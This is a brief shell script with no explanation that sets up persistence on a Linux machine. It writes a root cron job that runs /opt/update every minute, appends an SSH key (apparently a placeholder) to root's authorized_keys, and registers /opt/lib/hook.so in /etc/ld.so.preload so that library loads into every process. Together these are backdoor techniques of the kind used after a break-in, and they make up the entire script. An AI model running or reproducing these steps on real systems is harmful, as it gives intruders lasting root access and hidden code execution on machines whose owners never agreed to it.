#!/bin/sh
echo '* * * * * root /opt/update' >/etc/cron.d/update
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleKeyThatIsNobodys nobody@example' >>/root/.ssh/authorized_keys
echo /opt/lib/hook.so >/etc/ld.so.preload
/bin/busybox sleep 2
